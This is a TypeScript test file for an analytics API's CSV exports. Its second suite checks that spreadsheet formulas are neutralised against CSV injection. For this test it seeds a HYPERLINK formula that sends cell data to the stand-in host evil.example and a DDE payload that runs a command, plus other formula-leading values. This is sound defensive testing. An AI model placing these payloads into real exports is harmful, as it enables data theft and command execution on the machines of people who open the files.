import type { INestApplication } from '@nestjs/common';
import request from 'supertest';
import { formulaCells, parseCsv } from './support/csv';
import { event, pageview, purchase } from './support/hits';
import { documentedRoutes } from './support/routes';
import { TestEnv } from './support/test-env';

describe('CSV exports of every tabular report', () => {
  let env: TestEnv;
  let app: INestApplication;
  let key: string;
  let site: number;
  const range = 'from=2026-03-01&to=2026-03-02';

  beforeAll(async () => {
    env = await TestEnv.create();
    const user = await env.user();
    site = await env.site({ members: [user], timezone: 'UTC', currency: 'USD' });
    key = (await env.key(user)).key;
    await env.registerEvent(site, 'signup', 'Created an account, "free" plan');
    await env.goal(site, 'Signed up', 'event', 'signup');
    const imported = await env.importHits([
      pageview(site, 'c1', '2026-03-01T10:00:00Z', '/pricing', { channel: 'Email', scroll_depth: 90 }),
      event(site, 'c1', '2026-03-01T10:01:00Z', 'signup'),
      purchase(site, 'c1', '2026-03-01T10:02:00Z', 'o1', '12.50', {
        items: [{ sku: 'A,1', name: 'Tee', quantity: 1, price: '12.50' }],
      }),
      pageview(site, 'c2', '2026-03-02T09:00:00Z', '/', { channel: 'Direct', scroll_depth: 10 }),
    ]);
    expect(imported.rejections).toEqual([]);
    await env.aggregate();
    app = await env.startApp();
  });

  afterAll(() => env.close());

  const csv = (path: string, accept = 'text/csv') =>
    request(app.getHttpServer()).get(path).set('Authorization', `Bearer ${key}`).set('Accept', accept);

  const expectCsv = (res: request.Response, filename: RegExp) => {
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(filename);
    expect(res.text.endsWith('\r\n')).toBe(true);
    return parseCsv(res.text);
  };

  it('answers the events list as CSV with a header row, quoting commas and quotes', async () => {
    const rows = expectCsv(
      await csv(`/api/v1/sites/${site}/events?${range}`),
      /^attachment; filename="events_site-\d+_2026-03-01_2026-03-02\.csv"$/,
    );
    expect(rows).toEqual([
      ['name', 'description', 'registered_at', 'occurrences', 'sessions'],
      ['signup', 'Created an account, "free" plan', expect.stringMatching(/Z$/), '1', '1'],
    ]);
  });

  it('gives the same CSV for format=csv as for Accept: text/csv', async () => {
    const byHeader = await csv(`/api/v1/sites/${site}/conversions?${range}`);
    const byParam = await csv(`/api/v1/sites/${site}/conversions?${range}&format=csv`, '*/*');
    expect(byParam.text).toBe(byHeader.text);
    // 2 sessions started in the range, 1 converted "Signed up": 50 %.
    expect(parseCsv(byHeader.text)).toEqual([
      ['id', 'name', 'type', 'match', 'conversions', 'conversion_rate'],
      [expect.any(String), 'Signed up', 'event', 'signup', '1', '50'],
    ]);
  });

  it('writes every headline figure of the overview, and with compare the comparison and the change', async () => {
    const url = `/api/v1/sites/${site}/analytics/overview?${range}&compare=previous_period`;
    const json = await csv(url, 'application/json');
    expect(json.status).toBe(200);
    const data = json.body.data as Record<string, number> & {
      comparison: Record<string, number | string> & { change: Record<string, number | null> };
    };
    const rows = expectCsv(await csv(url), /overview/);
    const cell = (section: string, metric: string) =>
      rows.find((row) => row[0] === section && row[1] === metric)?.[2];
    const headline = [
      'visitors',
      'sessions',
      'pageviews',
      'bounce_rate',
      'pages_per_session',
      'avg_session_duration_seconds',
    ];
    for (const metric of headline) {
      expect({ metric, csv: cell('headline', metric) }).toEqual({ metric, csv: String(data[metric]) });
      expect({ metric, csv: cell('comparison', metric) }).toEqual({
        metric,
        csv: String(data.comparison[metric]),
      });
      const change = data.comparison.change[metric];
      expect({ metric, csv: cell('change', metric) }).toEqual({
        metric,
        csv: change === null ? '' : String(change),
      });
    }
    expect(cell('comparison', 'from')).toBe(data.comparison.from);
    expect(cell('comparison', 'to')).toBe(data.comparison.to);
  });

  it('writes the breakdown as one row per bucket and series', async () => {
    const rows = expectCsv(
      await csv(
        `/api/v1/sites/${site}/analytics/breakdown-timeseries?${range}&metric=sessions&dimension=channel&limit=1`,
      ),
      /breakdown/,
    );
    // Top 1 by sessions: Direct and Email tie at 1, value asc → Direct; Email goes to Other.
    expect(rows).toEqual([
      ['bucket', 'channel', 'sessions'],
      ['2026-03-01', 'Direct', '0'],
      ['2026-03-01', 'Other', '1'],
      ['2026-03-02', 'Direct', '1'],
      ['2026-03-02', 'Other', '0'],
    ]);
  });

  it('writes the overview top lists, the e-commerce products and days, the scroll depth, the funnel and the sites', async () => {
    const overview = expectCsv(await csv(`/api/v1/sites/${site}/analytics/overview?${range}`), /overview/);
    expect(overview[0]).toEqual(['section', 'metric', 'metric_value', 'value', 'sessions', 'share']);
    expect(overview).toContainEqual(['headline', 'sessions', '2', '', '', '']);
    expect(overview).toContainEqual(['top_channels', '', '', 'Email', '1', '50']);
    expect(overview).toContainEqual(['entry_pages', '', '', '/pricing', '1', '50']);
    expect(overview.some((row) => row[0] === 'comparison')).toBe(false);

    const shop = expectCsv(await csv(`/api/v1/sites/${site}/ecommerce?${range}`), /ecommerce/);
    expect(shop).toEqual([
      ['section', 'date', 'sku', 'name', 'quantity', 'revenue', 'orders'],
      ['product', '', 'A,1', 'Tee', '1', '12.5', '1'],
      ['day', '2026-03-01', '', '', '', '12.5', '1'],
      ['day', '2026-03-02', '', '', '', '0', '0'],
    ]);

    const depth = expectCsv(await csv(`/api/v1/sites/${site}/analytics/engagement?${range}`), /scroll-depth/);
    expect(depth).toEqual([
      ['bucket', 'pageviews', 'share'],
      ['0-24', '1', '50'],
      ['25-49', '0', '0'],
      ['50-74', '0', '0'],
      ['75-100', '1', '50'],
    ]);

    const steps = encodeURIComponent(
      JSON.stringify([
        { type: 'pageview', path: '/pricing' },
        { type: 'event', name: 'signup' },
      ]),
    );
    const funnel = expectCsv(
      await csv(`/api/v1/sites/${site}/analytics/funnel?${range}&steps=${steps}`),
      /funnel/,
    );
    expect(funnel.slice(1).map((r) => r.slice(0, 5))).toEqual([
      ['1', 'pageview', '/pricing', '', '1'],
      ['2', 'event', '', 'signup', '1'],
    ]);

    const sites = expectCsv(await csv('/api/v1/sites'), /^attachment; filename="sites\.csv"$/);
    expect(sites[1].slice(0, 2)).toEqual([String(site), 'Site']);
  });

  it('keeps JSON the default, also for Accept: */* and browsers', async () => {
    for (const accept of ['*/*', 'application/json', 'text/html,application/xhtml+xml,*/*;q=0.8']) {
      const res = await csv(`/api/v1/sites/${site}/events?${range}`, accept);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
    }
  });

  it('answers 406 for CSV of the realtime snapshot, and 400 for an unknown format', async () => {
    const res = await csv(`/api/v1/sites/${site}/analytics/realtime`);
    expect(res.status).toBe(406);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    const bad = await csv(`/api/v1/sites/${site}/events?format=xml`, '*/*');
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([{ parameter: 'format', message: 'format must be json or csv' }]);
  });

  it('documents both media types of a CSV route in OpenAPI', async () => {
    const doc = await request(app.getHttpServer()).get('/api/docs-json');
    const ok = doc.body.paths['/api/v1/sites/{id}/ecommerce'].get.responses['200'];
    expect(Object.keys(ok.content).sort()).toEqual(['application/json', 'text/csv']);
  });
});

describe('CSV exports neutralise spreadsheet formulas in every export (OWASP CSV injection)', () => {
  let env: TestEnv;
  let app: INestApplication;
  let key: string;
  let site: number;
  const range = 'from=2026-03-01&to=2026-03-02';
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  beforeAll(async () => {
    env = await TestEnv.create();
    const user = await env.user();
    site = await env.site({ name: '=cmd|"/c calc"!A1', members: [user] });
    key = (await env.key(user)).key;
    await env.registerEvent(site, '@evt', '=description');
    await env.goal(site, '+goal', 'event', '@evt');
    const attrs = {
      source: HYPERLINK,
      channel: '+chan',
      country: '-land',
      device: '@dev',
      browser: '\tbrowser',
    };
    const imported = await env.importHits([
      pageview(site, 'f1', '2026-03-01T10:00:00Z', '/=1', { ...attrs, scroll_depth: 50 }),
      event(site, 'f1', '2026-03-01T10:01:00Z', '@evt', { path: '/=1' }),
      purchase(site, 'f1', '2026-03-01T10:02:00Z', 'o1', '5.00', {
        items: [{ sku: '=SKU', name: '\r@name', quantity: 1, price: '5.00' }],
      }),
    ]);
    expect(imported.rejections).toEqual([]);
    await env.aggregate();
    app = await env.startApp();
  });

  afterAll(() => env.close());

  const csv = (path: string) =>
    request(app.getHttpServer()).get(path).set('Authorization', `Bearer ${key}`).set('Accept', 'text/csv');

  it('writes no text cell that starts a formula, in any route that has a CSV form', async () => {
    const steps = encodeURIComponent(
      JSON.stringify([
        { type: 'pageview', path: '/=1' },
        { type: 'event', name: '@evt' },
      ]),
    );
    const samples: Record<string, string> = {
      '/api/v1/sites/{id}/analytics/breakdown-timeseries': `metric=sessions&dimension=browser&${range}`,
      '/api/v1/sites/{id}/analytics/funnel': `steps=${steps}&${range}`,
    };
    let exports = 0;
    for (const route of documentedRoutes(app)) {
      const url = route.template.includes('{id}')
        ? `${route.template.replace('{id}', String(site))}?${samples[route.template] ?? range}`
        : route.template;
      const res = await csv(url);
      if (res.status === 406) continue;
      expect({ url, status: res.status }).toEqual({ url, status: 200 });
      exports++;
      expect({ url, formulas: formulaCells(res.text) }).toEqual({ url, formulas: [] });
    }
    expect(exports).toBeGreaterThanOrEqual(8);
  });

  it('keeps the value readable behind the quote, quoted as RFC 4180 says', async () => {
    const overview = await csv(`/api/v1/sites/${site}/analytics/overview?${range}`);
    expect(overview.text).toContain(
      `top_sources,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,100`,
    );
    const rows = parseCsv(overview.text);
    for (const [list, value] of [
      ['top_channels', "'+chan"],
      ['top_countries', "'-land"],
      ['top_devices', "'@dev"],
    ])
      expect(rows).toContainEqual([list, '', '', value, '1', '100']);

    const shop = parseCsv((await csv(`/api/v1/sites/${site}/ecommerce?${range}`)).text);
    expect(shop[1]).toEqual(['product', '', "'=SKU", "'\r@name", '1', '5', '1']);
    const events = parseCsv((await csv(`/api/v1/sites/${site}/events?${range}`)).text);
    expect(events[1].slice(0, 2)).toEqual(["'@evt", "'=description"]);
    const sites = parseCsv((await csv('/api/v1/sites')).text);
    expect(sites[1][1]).toBe(`'=cmd|"/c calc"!A1`);
  });

  it('leaves JSON untouched: the neutralisation is a property of the CSV form only', async () => {
    const res = await request(app.getHttpServer())
      .get(`/api/v1/sites/${site}/analytics/overview?${range}`)
      .set('Authorization', `Bearer ${key}`);
    expect(res.body.data.top_sources[0].value).toBe(HYPERLINK);
  });
});
